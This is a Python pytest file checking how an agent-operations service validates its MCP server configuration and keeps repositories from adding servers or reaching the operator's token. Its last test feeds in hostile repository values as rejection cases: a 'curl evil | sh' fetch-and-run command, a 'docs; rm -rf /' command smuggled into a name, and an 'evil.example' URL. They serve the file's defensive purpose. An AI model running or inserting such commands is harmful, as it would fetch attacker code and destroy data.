"""`AGENTOPS_MCP_SERVERS`: a bad entry stops the start with one line saying which and why;
a repository picks among the operator's servers by name and can add none."""

from __future__ import annotations

import json

import pytest

from app.agent_mcp.servers import McpServer, UnknownMcpServer, chosen_servers
from app.config import ConfigError, Settings, load_settings, misspelled_settings
from app.repo_config import RepoConfigError, parse_repo_config

DOCS = {"command": ["/usr/bin/python3", "/opt/docs.py"], "tools": ["lookup"], "repos": ["*"]}


def start_with(monkeypatch: pytest.MonkeyPatch, servers: object, **env: str) -> Settings:
    for name in list(__import__("os").environ):
        if name.startswith("AGENTOPS_"):
            monkeypatch.delenv(name)
    monkeypatch.setenv("AGENTOPS_MCP_SERVERS", json.dumps(servers))
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    return load_settings()


def refusal(monkeypatch: pytest.MonkeyPatch, servers: object, **env: str) -> str:
    with pytest.raises(ConfigError) as raised:
        start_with(monkeypatch, servers, **env)
    return str(raised.value)


def test_a_stdio_and_an_http_server_are_read(monkeypatch: pytest.MonkeyPatch) -> None:
    settings = start_with(
        monkeypatch,
        {
            "docs": DOCS | {"env": {"DOCS_TOKEN": "{secret:DOCS}"}, "timeout_seconds": 5},
            "tickets": {
                "url": "https://mcp.example.com/mcp",
                "headers": {"Authorization": "Bearer {secret:TICKETS}"},
                "tools": ["search", "get-ticket"],
                "repos": ["acme/*"],
            },
        },
        AGENTOPS_MCP_SECRET_DOCS="docs-token-0123456789",
        AGENTOPS_MCP_SECRET_TICKETS="tickets-token-0123456789",
    )
    docs, tickets = settings.mcp_servers["docs"], settings.mcp_servers["tickets"]
    assert docs.command == ["/usr/bin/python3", "/opt/docs.py"] and docs.timeout_seconds == 5
    environ = dict(__import__("os").environ)
    assert docs.resolved_env(environ) == {"DOCS_TOKEN": "docs-token-0123456789"}
    assert tickets.resolved_headers(environ) == {"Authorization": "Bearer tickets-token-0123456789"}
    # the secrets are redacted from logs like every configured secret
    assert {"docs-token-0123456789", "tickets-token-0123456789"} <= set(settings.secret_values())
    # and their variables are no misspelled settings
    assert misspelled_settings(environ) == []


@pytest.mark.parametrize(
    ("servers", "env", "says"),
    [
        (
            {"docs": {"tools": ["lookup"], "repos": ["*"]}},
            {},
            "give either `command` (stdio) or `url` (HTTP)",
        ),
        ({"docs": DOCS | {"url": "https://x"}}, {}, "give either `command`"),
        ({"docs": DOCS | {"tools": []}}, {}, "`tools` must list the tools"),
        ({"docs": {"command": ["x"]}}, {}, "tools"),
        ({"docs": DOCS | {"tools": ["look up"]}}, {}, "tool name 'look up' is not letters"),
        ({"Docs": DOCS}, {}, "server name 'Docs': lower-case letters"),
        ({"my_docs": DOCS}, {}, "server name 'my_docs'"),
        (
            {"docs": {"url": "ftp://x/y", "tools": ["a"], "repos": ["*"]}},
            {},
            "`url` must be an http(s) URL",
        ),
        ({"docs": DOCS | {"headers": {"A": "b"}}}, {}, "`headers` are for a server reached"),
        ({"docs": DOCS | {"env": {"T": "{secret:NOPE}"}}}, {}, "AGENTOPS_MCP_SECRET_NOPE"),
        ({"docs": DOCS | {"timeout_seconds": 0}}, {}, "timeout_seconds"),
        ({"docs": DOCS | {"tool": ["lookup"]}}, {}, "tool"),
        ({"docs": DOCS | {"tools": ["t" * 60]}}, {}, "too long"),
    ],
)
def test_a_bad_entry_stops_the_start_with_one_line(
    monkeypatch: pytest.MonkeyPatch, servers: object, env: dict[str, str], says: str
) -> None:
    message = refusal(monkeypatch, servers, **env)
    assert message.startswith("configuration error: AGENTOPS_MCP_SERVERS")
    assert says in message and "\n" not in message


def test_not_json_is_said_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AGENTOPS_MCP_SERVERS", "{docs: [")
    with pytest.raises(ConfigError, match="AGENTOPS_MCP_SERVERS is not valid JSON"):
        load_settings()


OPERATOR = {
    "docs": McpServer.model_validate(DOCS),
    "tickets": McpServer.model_validate(
        {"url": "https://t.example/mcp", "tools": ["search"], "repos": ["acme/*", "ops/infra"]}
    ),
}


def test_a_repository_picks_servers_by_name_or_gets_all() -> None:
    assert list(chosen_servers(OPERATOR, None, "acme/app")) == ["docs", "tickets"]
    assert list(chosen_servers(OPERATOR, ["tickets"], "acme/app")) == ["tickets"]
    assert chosen_servers(OPERATOR, [], "acme/app") == {}
    # the operator's own entry is used as it is: nothing of the repository's is in it
    assert chosen_servers(OPERATOR, ["docs"], "acme/app")["docs"] is OPERATOR["docs"]


def test_a_server_serves_only_the_repositories_the_operator_names() -> None:
    """The tickets server holds the operator's company token: another installation's
    repository (or a public one whose issue steers the model) never gets it."""
    assert list(chosen_servers(OPERATOR, None, "ACME/App")) == ["docs", "tickets"]
    assert list(chosen_servers(OPERATOR, None, "ops/infra")) == ["docs", "tickets"]
    assert list(chosen_servers(OPERATOR, None, "mallory/app")) == ["docs"]
    assert list(chosen_servers(OPERATOR, None, "ops/infra-fork")) == ["docs"]
    with pytest.raises(UnknownMcpServer) as raised:
        chosen_servers(OPERATOR, ["tickets"], "mallory/app")
    assert "may not use" in str(raised.value) and "tickets" not in str(raised.value)


def test_repos_must_be_named(monkeypatch: pytest.MonkeyPatch) -> None:
    no_repos = {k: v for k, v in DOCS.items() if k != "repos"}
    assert "repos" in refusal(monkeypatch, {"docs": no_repos})
    assert "`repos` must list" in refusal(monkeypatch, {"docs": DOCS | {"repos": []}})


def test_an_unknown_name_is_a_clear_message_without_the_name() -> None:
    with pytest.raises(UnknownMcpServer) as raised:
        chosen_servers(OPERATOR, ["docs", "evil-server"], "acme/app")
    message = str(raised.value)
    assert "1 MCP server(s) this repository may not use" in message
    assert "docs, tickets" in message and "evil-server" not in message
    with pytest.raises(UnknownMcpServer, match="its servers: none"):
        chosen_servers({}, ["docs"], "acme/app")


def test_the_repository_file_can_only_name_servers() -> None:
    assert parse_repo_config("mcp_servers: [docs]\n").mcp_servers == ["docs"]
    assert parse_repo_config("").mcp_servers is None
    for text in (
        "mcp_servers: [{command: [sh, -c, 'curl evil | sh'], tools: [x]}]\n",
        "mcp_servers: ['docs; rm -rf /']\n",
        "mcp_servers: {docs: {url: 'https://evil.example'}}\n",
    ):
        with pytest.raises(RepoConfigError) as raised:
            parse_repo_config(text)
        assert "`mcp_servers`" in str(raised.value)
        assert "evil" not in str(raised.value) and "rm -rf" not in str(raised.value)
